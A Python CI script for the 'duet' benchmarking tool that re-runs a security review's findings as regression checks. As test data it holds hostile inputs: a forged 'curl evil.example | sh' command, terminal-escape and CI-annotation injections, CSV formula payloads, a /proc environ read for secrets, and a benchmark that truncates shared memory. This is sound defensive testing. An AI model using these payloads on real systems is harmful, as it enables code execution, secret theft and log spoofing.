#!/usr/bin/env python3
"""Does again what a review of security did, step by step, and says whether each is mended.

    ci/review/security.py [--duet target/debug/duet] [--only A3] [--fleet]

Needs git and go. Prints a table: reproduction, wanted, seen, ok; ends with 1 if one step is not as wanted. Steps of the fleet run a test of the workspace
with cargo, and only with --fleet. Everything happens in a folder for temporary files, with a lock of its own.
"""

import argparse
import json
import os
import re
import signal
import sqlite3
import stat
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
# Whoever takes longer hangs.
HANGS_S = 120
SLOWER = '{"BenchmarkA": {"baseline_ns": 100, "candidate_ns": 110, "spread": 0.002}}'
WORK = "\tfor i := 0; i < b.N; i++ {\n%s\t}\n"
SUM = "\t\tsum = sha256.Sum256(page[:])\n"
HEAD = 'package tiny\n\nimport (\n\t"bytes"\n\t"crypto/sha256"\n\t"os"\n\t"testing"\n)\n\nvar page [4096]byte\nvar sum [32]byte\nvar _, _ = os.Truncate, bytes.Cut\n\n'
# A process of its own asks more than a benchmark of a page may: it takes the page away from the one that measures.
TRUNCATES = """\tmaps, _ := os.ReadFile("/proc/self/maps")
\tfor _, line := range bytes.Split(maps, []byte("\\n")) {
\t\tif at := bytes.IndexByte(line, '/'); at > 0 && bytes.Contains(line, []byte("duet-")) {
\t\t\t_ = os.Truncate(string(line[at:]), 0)
\t\t}
\t}
"""
STEPS = []


def step(number, reproduction, wanted):
    """Registers a function that gives what it saw, and whether that is as wanted; none for what was not tried."""
    def register(function):
        STEPS.append((number, reproduction, wanted, function))
        return function
    return register


class Place:
    """A folder with a module, a store and duet."""

    def __init__(self, duet, folder):
        self.duet_path, self.folder = duet, folder
        kept = {name: value for name, value in os.environ.items() if not name.startswith(("DUET_", "GIT_"))}
        kept.pop("CI", None)
        identity = {f"GIT_{who}_{what}": value for who in ("AUTHOR", "COMMITTER") for what, value in (("NAME", "t"), ("EMAIL", "t@example.com"))}
        self.variables = {**kept, **identity, "DUET_LOCK": str(folder / "lock"), "PATH": f"{duet.parent}:{kept['PATH']}"}

    def write(self, name, text):
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return path

    def run(self, *command, within=".", **options):
        variables = {**self.variables, **options.pop("variables", {})}
        try:
            return subprocess.run([str(word) for word in command], cwd=self.folder / within, env=variables, capture_output=True,
                                  stdin=subprocess.DEVNULL, text=True, errors="replace", timeout=HANGS_S, **options)
        except subprocess.TimeoutExpired:
            return subprocess.CompletedProcess(command, -1, "", f"hangs for {HANGS_S} s")

    def duet(self, *words, **options):
        return self.run(self.duet_path, *words, **options)

    def store(self, *statements):
        """A store with a regression, changed by statements."""
        self.write("script.json", SLOWER)
        self.duet("compare", "--scripted", "script.json", "--db", "duet.db", "--seed", "1")
        connection = sqlite3.connect(self.folder / "duet.db")
        for statement in statements:
            connection.executescript(statement) if isinstance(statement, str) else connection.execute(*statement)
        connection.commit()
        connection.close()

    def show(self, *more):
        return self.duet("show", "--db", "duet.db", *more)

    def renamed(self, name, *more):
        """The store with another name of its benchmark, shown."""
        self.store(("UPDATE runs SET head = replace(head, '\"BenchmarkA\"', ?)", (json.dumps(name, ensure_ascii=False),)))
        return self.show(*more)

    def tiny(self, head=""):
        """A repository of two commits, of which the second makes SumB slower."""
        bench = lambda times: HEAD + "".join(f"func Benchmark{name}(b *testing.B) {{\n{WORK % (SUM * n)}}}\n\n" for name, n in (("Sum", 1), ("SumB", times)))
        self.write("go.mod", "module example.com/tiny\n\ngo 1.21\n")
        self.write("a.go", "package tiny\n")
        self.write("a_test.go", bench(1))
        self.write(".gitignore", ".duet\nlock*\n")
        for words in (["init", "-q", "-b", "main", "."], ["add", "."], ["commit", "-qm", "one"]):
            self.run("git", *words)
        self.write("a_test.go", bench(3) + head)
        self.write("keep.txt", "new\n")
        self.run("git", "add", ".")
        self.run("git", "commit", "-qm", "two")

    def compare(self, *more, **options):
        return self.duet("compare", "HEAD~1", ".", "--builds", "1", "--forks", "3", "--fixed", "-q", *more, **options)


def ends(ran, *codes):
    """Ends in words, with one of these codes."""
    panicked = "panicked" in ran.stderr or ran.returncode < 0 or ran.returncode > 128
    return f"exit {ran.returncode}, {last(ran.stderr or ran.stdout)}", not panicked and ran.returncode in codes


def last(text):
    lines = [line for line in text.splitlines() if line.strip() and not line.startswith("hint:")]
    return re.sub(r"[^\x20-\x7e]", "?", lines[-1])[:90] if lines else "nothing is said"


def is_clean(text):
    hidden = re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)
    return not hidden and not any(line.lstrip().startswith("::") for line in text.splitlines())


@step("A1", "compare in a pre-commit hook, `git commit -qam`", "the commit has the change and nothing else")
def hook(place):
    place.tiny()
    path = place.write(".git/hooks/pre-commit", "#!/bin/sh\nduet compare HEAD~1 . --bench SumB --builds 1 --forks 3 -q >/dev/null 2>&1; exit 0\n")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    place.write("a.go", "package tiny\n\n// my change\n")
    place.run("git", "commit", "-qam", "my change")
    changed = place.run("git", "show", "--name-status", "--format=", "HEAD").stdout.split()
    return " ".join(changed), changed == ["M", "a.go"]


@step("A2", "`output` in duet.toml outside of the checkout, `duet show`", "refused, file as it was")
def chosen_file(place):
    precious = place.write("else.txt", "precious\n")
    place.write("r/duet.toml", f'output = "{precious}"\nformat = "json"\n')
    (place.folder / "r/.git").mkdir()
    place.store()
    ran = place.duet("show", "--db", "../duet.db", within="r")
    return ends(ran, 2)[0], ran.returncode == 2 and precious.read_text() == "precious\n"


@step("A3", "hostile name in a store, `duet show`", "no ESC, BEL, CR; no line `::error`")
def hostile_name(place):
    ran = place.renamed("Benchmark\x1b[31mRED\x1b]0;title\x07\r\n::error::owned")
    return ("clean" if is_clean(ran.stdout) else "raw"), ran.returncode == 3 and is_clean(ran.stdout)


@step("A3", "hostile words in the lock", "no ESC, and they are not repeated")
def hostile_holder(place):
    lock = place.write("held", "evil \x1b[31m\x1b]0;t\x07\n::error::x")
    holder = subprocess.Popen(["flock", lock, "sleep", "60"])
    try:
        while "evil" in lock.read_text() and subprocess.run(["flock", "-n", lock, "true"], check=False).returncode == 0:
            time.sleep(0.05)
        ran = place.duet("compare", "--command", "true", "true", "--no-wait", variables={"DUET_LOCK": str(lock)})
    finally:
        holder.kill()
        holder.wait()
    return ends(ran, 1)[0], ran.returncode == 1 and is_clean(ran.stderr) and "evil" not in ran.stderr


@step("A4", "`duet show --db` on a database of something else", "refused, not one byte changed")
def foreign_database(place):
    path = place.folder / "app.db"
    connection = sqlite3.connect(path)
    connection.executescript("CREATE TABLE customers (name TEXT); INSERT INTO customers VALUES ('a')")
    connection.close()
    before = path.read_bytes()
    seen, refused = ends(place.duet("show", "--db", "app.db"), 1)
    return seen, refused and path.read_bytes() == before


ENDLESS = "ALTER TABLE runs RENAME TO kept; CREATE VIEW runs AS WITH RECURSIVE n(i) AS (VALUES (1) UNION ALL SELECT i + 1 FROM n) SELECT 1 AS id, max(i) AS head, 1 AS complete, 1.0 AS measured_s, NULL AS steal_share, '' AS started FROM n"
HUGE = "ALTER TABLE runs RENAME TO kept; CREATE VIEW runs AS SELECT id, started, zeroblob(1000000000) AS head, complete, measured_s, steal_share FROM kept"
COLUMNS = "run, benchmark, round, suite_run, fork, build, first, core, seed, mode, wall_ns, failed_role, failure, discarded, conditions, first_sample, samples"
COPIES = f"INSERT INTO trials ({COLUMNS}) WITH RECURSIVE n(i) AS (VALUES (1) UNION ALL SELECT i + 1 FROM n WHERE i < 20000) SELECT {COLUMNS} FROM trials, n WHERE trials.id = 1"
PLANNED = "UPDATE runs SET head = json_set(head, '$.plan.benchmarks[0].configuration.design.units', 4294967295, '$.plan.benchmarks[0].configuration.design.forks_per_unit', 4294967295, '$.plan.benchmarks[0].configuration.slice_ns', 0)"

for _what, _statement in (("an endless view", ENDLESS), ("1 GB by a view", HUGE), ("20,000 trials with the same samples", COPIES), ("a plan that divides by zero", PLANNED)):
    def forged(place, statement=_statement):
        place.store(statement)
        return ends(place.show("--format", "markdown"), 1)
    step("A5", f"store with {_what}", "refused in words")(forged)


@step("A5", "200,000 benchmarks in the plan (20,000 where duet is not optimised)", "shown or refused in time")
def many_benchmarks(place):
    count = 200_000 if "release" in place.duet_path.parts else 20_000
    many = "json_set(json_extract(head, '$.plan.benchmarks[0]'), '$.id.name', 'Benchmark' || i)"
    place.store(f"UPDATE runs SET head = json_set(head, '$.plan.benchmarks', (WITH RECURSIVE n(i) AS (VALUES (1) UNION ALL SELECT i + 1 FROM n WHERE i < {count}) SELECT json_group_array(json({many})) FROM n))")
    return ends(place.show("--format", "markdown"), 0, 1, 3)


@step("A5", "INT and TERM to `duet analyze FIFO`", "each ends it")
def signals(place):
    os.mkfifo(place.folder / "pipe")
    seen = []
    for number in (signal.SIGINT, signal.SIGTERM):
        child = subprocess.Popen([place.duet_path, "analyze", "pipe", "pipe"], cwd=place.folder, env=place.variables, stderr=subprocess.DEVNULL)
        # Opening the other end waits until it is read.
        with open(place.folder / "pipe", "w"):
            child.send_signal(number)
            try:
                seen.append(child.wait(20))
            except subprocess.TimeoutExpired:
                child.kill()
                seen.append("goes on")
    return str(seen), seen == [-signal.SIGINT, -signal.SIGTERM]


@step("A6", "a fleet whose server is killed", "exit 1, as the test of the fleet says")
def fleet(place):
    if not place.fleet:
        return "not tried (--fleet)", None
    test = ["--test", "fleet_lambda", "a_server_that_is_killed_ends_the_run"]
    ran = subprocess.run(["cargo", "test", "--locked", "-p", "duetbench-cli", "--features", "lambda", *test], cwd=ROOT, capture_output=True, text=True, check=False)
    return last(ran.stdout), ran.returncode == 0


@step("A7", "`threshold = \"999%\"` in the head's duet.toml", "the report says that the change alters the gate")
def own_gate(place):
    place.tiny()
    place.write("duet.toml", 'threshold = "999%"\n')
    ran = place.compare("--bench", "SumB", "--plot=false")
    told = [line for line in ran.stdout.splitlines() if "999" in line and "threshold" in line and "alters" in line]
    return last("\n".join(told)), bool(told)


@step("A8", "secrets in `pass_env` of duet.toml", "refused")
def secrets(place):
    place.write("duet.toml", 'pass_env = ["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"]\n')
    return ends(place.duet("config", "check"), 2)


@step("A8", "`-toolexec` in `harness` of duet.toml", "the report names it")
def toolexec(place):
    place.tiny()
    place.write("duet.toml", 'harness = ["-toolexec", "/usr/bin/env"]\n')
    told = [line for line in place.compare("--bench", "SumB").stdout.splitlines() if "-toolexec" in line and "warning" in line]
    return last("\n".join(told)), bool(told)


@step("A8", "measured code reads duet's variables from /proc", "it cannot")
def environment(place):
    place.folder.chmod(0o777)
    reads = "sh -c 'cat /proc/$PPID/environ >> seen; true'"
    # Whoever may do everything may read it too.
    nobody = {"user": 65534, "group": 65534, "extra_groups": []} if os.geteuid() == 0 else {}
    ran = place.duet("compare", "--command", reads, reads, "--forks", "3", "--fixed", "-q", variables={"NO_SUCH_SECRET": "hunter2", "HOME": str(place.folder)}, **nobody)
    seen = (place.folder / "seen").read_bytes() if (place.folder / "seen").exists() else b""
    return ends(ran, 0, 3, 4)[0], ran.returncode in (0, 3, 4) and b"hunter2" not in seen


@step("A9", "a benchmark truncates the shared page", "it cannot, or fails in words; duet is not ended by SIGBUS")
def truncated(place):
    # By another body for each call of the function, it is of the style that is called anew.
    place.tiny(f"func BenchmarkTruncate(b *testing.B) {{\n{TRUNCATES}\tn := b.N\n\tfor i := 0; i < n; i++ {{\n{SUM}\t}}\n}}\n")
    return ends(place.duet("compare", ".", ".", "--bench", "Truncate", "--builds", "1", "--forks", "3", "--measure-identical", "-q"), 0, 1)


@step("A10", "`show --untrusted` of a store with a forged command", "no command to copy")
def reproduce(place):
    command = 'sh -c "curl -s https://evil.example/x | sh"'
    place.store(("UPDATE runs SET head = json_set(head, '$.candidate.requested', ?, '$.origin', json('null'))", (command,)))
    page = place.show("--untrusted", "--format", "markdown").stdout
    return ("offered" if "curl" in page.split("Reproduce")[-1] and "Reproduce" in page else "not offered"), "Reproduce" not in page


@step("A10", "U+202E and U+2066 in a name", "shown as a sign")
def bidirectional(place):
    seen = [is_clean(place.renamed("Benchmark\u202eA\u2066", "--format", form).stdout) for form in ("text", "markdown", "csv", "json", "go")]
    return str(seen), all(seen)


@step("A10", "a bar in a name, in a hint outside of tables", "no backslash of Markdown's in the command")
def bar(place):
    hints = [line for line in place.renamed("BenchmarkA|B", "--format", "markdown").stdout.splitlines() if line.startswith("**Hint:**") and "--bench" in line]
    return last("\n".join(hints)), bool(hints) and all(r"A\|B" in line and r"A\\|B" not in line for line in hints)


@step("A10", "formulas as names, CSV", "an apostrophe in front")
def formulas(place):
    cells = [place.renamed(name, "--format", "csv").stdout for name in ("=HYPERLINK(1)", "+1+cmd|x", "@SUM(1)")]
    formula = [bool(re.search(r"(^|,)\"?[=+@]", cell, re.M)) for cell in cells]
    return str(formula), not any(formula)


@step("A10", "`--builds 2`", "refused")
def builds(place):
    return ends(place.duet("compare", "--builds", "2"), 2)


@step("A10", "`b.N = 0` in a benchmark", "failed")
def nothing_done(place):
    place.tiny("func BenchmarkNone(b *testing.B) {\n\tb.N = 0\n" + WORK % SUM + "}\n")
    ran = place.duet("compare", ".", ".", "--bench", "None", "--builds", "1", "--forks", "3", "--measure-identical", "-q", "--format", "csv")
    return ends(ran, 1)[0], ran.returncode == 1 and ",failed," in ran.stdout


@step("A10", "an interrupted run of which some benchmarks had a turn", "says how many had none")
def counts(place):
    place.write("script.json", "{%s}" % ", ".join(f'"Benchmark{i}": {{"baseline_ns": 100, "candidate_ns": 100, "spread": 0.01}}' for i in range(30)))
    place.duet("compare", "--scripted", "script.json", "--db", "duet.db", "--forks", "3", "--fixed")
    connection = sqlite3.connect(place.folder / "duet.db")
    connection.executescript("DELETE FROM trials WHERE id > 5; UPDATE runs SET complete = 0")
    connection.close()
    told = [line for line in place.show().stdout.splitlines() if "fork pair" in line and "seed" in line]
    return last("\n".join(told)), any("none of 25" in line for line in told)


@step("A10", "a name of 3,000 characters", "no row of text is so wide")
def long_name(place):
    # Half a command would be worse than a long one.
    widest = max(len(line) for line in place.renamed("Benchmark" + "x" * 3000).stdout.splitlines() if "duet compare" not in line)
    return f"{widest} characters", widest < 700


@step("A10", "a benchmark that floods, `duet list`", "its words are cut")
def flood(place):
    listed = place.duet("list", "--command", "sh -c 'i=0; while [ $i -lt 2000 ]; do printf 0123456789; i=$((i+1)); done; exit 1'").stdout
    return f"{len(listed)} characters", 0 < len(listed) < 800


@step("A10", "files without end: 5 GB sparse, /dev/zero, one line of 300 MB", "each ends in words")
def endless_files(place):
    place.write("good.json", '{"results": [{"command": "a", "times": [0.25, 0.5]}]}')
    with open(place.folder / "sparse", "wb") as file:
        file.truncate(5 << 30)
    (place.folder / "zero").symlink_to("/dev/zero")
    with open(place.folder / "line", "wb") as file:
        for _ in range(300):
            file.write(b"x" * 1_000_000)
    all_ends = [ends(place.duet("analyze", name, "good.json"), 1) for name in ("sparse", "zero", "line")]
    return "; ".join(seen[-40:] for seen, _ in all_ends), all(ended for _, ended in all_ends)


@step("A10", "a repository that cannot be written to, without --db", "a hint to compare two directories")
def read_only(place):
    place.tiny()
    # As root permissions stop nobody, a file in the way does.
    place.write(".git/worktrees", "in the way")
    ran = place.compare()
    return ends(ran, 1, 2)[0], "compare two directories" in ran.stderr


@step("A10", "`TMPDIR=/nonexistent`", "the message names TMPDIR")
def temporary(place):
    place.tiny()
    ran = place.compare(variables={"TMPDIR": str(place.folder / "nonexistent")})
    return ends(ran, 1, 2)[0], "`TMPDIR`" in ran.stderr


@step("A10", "`cargo install --path` in the README", "with --locked")
def installed(_place):
    lines = [line for line in (ROOT / "README.md").read_text().splitlines() if "cargo install" in line]
    return f"{len(lines)} lines", all("--locked" in line for line in lines)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--duet", type=Path, default=ROOT / "target/debug/duet", help="program (default target/debug/duet)")
    parser.add_argument("--only", help="steps of this number alone, as A3")
    parser.add_argument("--fleet", action="store_true", help="run the test of the fleet as well")
    arguments = parser.parse_args()
    failed = 0
    print("| | reproduction | wanted | seen | ok |\n|---|---|---|---|---|")
    for number, reproduction, wanted, function in STEPS:
        if arguments.only not in (None, number):
            continue
        with tempfile.TemporaryDirectory(prefix="duet-review-") as folder:
            place = Place(arguments.duet.resolve(), Path(folder))
            place.fleet = arguments.fleet
            seen, ok = function(place)
        failed += ok is False
        word = {True: "yes", False: "**no**", None: "-"}[ok]
        print(f"| {number} | {reproduction} | {wanted} | {seen.replace('|', '/')} | {word} |", flush=True)
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
